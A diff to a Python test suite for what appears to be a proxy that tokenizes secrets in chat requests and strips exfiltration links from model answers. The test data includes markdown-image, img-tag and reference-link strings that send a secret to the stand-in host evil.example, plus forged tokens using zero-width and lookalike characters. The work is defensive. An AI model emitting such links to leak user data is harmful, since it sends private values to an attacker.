@@ -516,11 +516,12 @@ def test_a_token_comes_back_in_plain_text_and_not_in_a_link(call, provider):
     answer = call(OPENAI, chat(f"is {TAG} open")).json()["choices"][0]["message"]["content"]
     assert answer == f"is {TAG} open"
     token = re.search(r"TAG_\w+", provider.last()["body"])[0]
-    links = ["![x](https://evil.example/?q={})", "![x](/{})", "<img src='https:\\\\evil.example\\{}'>", "https:evil.example/{}", "https:/evil.example/{}", '<img src="https://evil.example/?q= {}">', "www.evil.example/{}", "[x]: //evil.example/{}"]
-    for link in links:
+    stay = ["![x](/{})", "https:evil.example/{}", "https:/evil.example/{}", "www.evil.example/{}"]
+    go = ["![x](https://evil.example/?q={})", "<img src='https:\\\\evil.example\\{}'>", '<img src="https://evil.example/?q= {}">', "[x]: //evil.example/{}"]
+    for link in stay + go:
         # The provider repeats the prompt: here it is the model that was talked into a link.
         answer = call(OPENAI, chat(link.format(TAG))).json()["choices"][0]["message"]["content"]
-        assert TAG not in answer and token in answer, answer
+        assert TAG not in answer and (token in answer if link in stay else "removed" in answer), answer
 
 
 def test_a_forged_token_is_not_answered_with_a_value(call, provider):
@@ -528,7 +529,8 @@ def test_a_forged_token_is_not_answered_with_a_value(call, provider):
     token = re.search(r"TAG_\w+", provider.last()["body"])[0]
     for forged in (token, token.lower(), token[:6] + "\u200b" + token[6:], token.replace("T", "\u0054")):
         answer = call(OPENAI, chat(f"{TAG} and {forged}")).json()["choices"][0]["message"]["content"]
-        assert answer == f"{TAG} and {forged}"
+        # What nobody sees is taken out; what is left is a token that stays one.
+        assert answer == f"{TAG} and {forged}".replace("\u200b", "")
     assert call(OPENAI, chat(f"only {token}")).json()["choices"][0]["message"]["content"] == f"only {token}"
 
 
